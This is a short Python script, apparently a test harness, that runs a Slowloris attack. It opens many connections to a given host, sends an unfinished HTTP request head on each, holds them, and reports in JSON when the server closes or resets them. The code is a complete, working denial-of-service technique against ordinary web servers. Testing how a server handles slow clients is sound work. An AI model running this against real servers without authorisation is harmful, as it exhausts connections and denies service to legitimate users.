#!/usr/bin/env python3
"""Slowloris: open N connections, send an unfinished request head on each,
then hold them, sending nothing more, until the server ends them.

usage: slowloris.py HOST PORT N HOLD_S

Prints "ready <opened>" once every head is sent, then waits (at most HOLD_S
seconds from the start) for each connection to be closed or reset by the
server, and prints one JSON line: {"opened", "reset", "closed", "open",
"first_end_s", "last_end_s"} (times from the start). Bounded in time and
count; exits 0 unless it could not connect.
"""
import errno
import json
import select
import socket
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nX-slow: "


def main():
    host, port, count, hold = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    start = time.monotonic()
    socks = []
    for _ in range(count):
        s = socket.create_connection((host, port), timeout=5)
        s.sendall(HEAD)
        s.setblocking(False)
        socks.append(s)
    print(f"ready {len(socks)}", flush=True)
    ends = {}
    reset = closed = 0
    live = {s.fileno(): s for s in socks}
    while live and time.monotonic() - start < hold:
        r, _, _ = select.select(list(live.values()), [], [], 0.2)
        for s in r:
            try:
                data = s.recv(4096)
                if data:
                    continue  # an answer would be a bug of the test; keep holding
                closed += 1
            except OSError as e:
                if e.errno != errno.ECONNRESET:
                    raise
                reset += 1
            ends[s.fileno()] = time.monotonic() - start
            del live[s.fileno()]
            s.close()
    times = sorted(ends.values())
    print(json.dumps({
        "opened": len(socks),
        "reset": reset,
        "closed": closed,
        "open": len(live),
        "first_end_s": times[0] if times else None,
        "last_end_s": times[-1] if times else None,
    }), flush=True)
    for s in live.values():
        s.close()


if __name__ == "__main__":
    main()
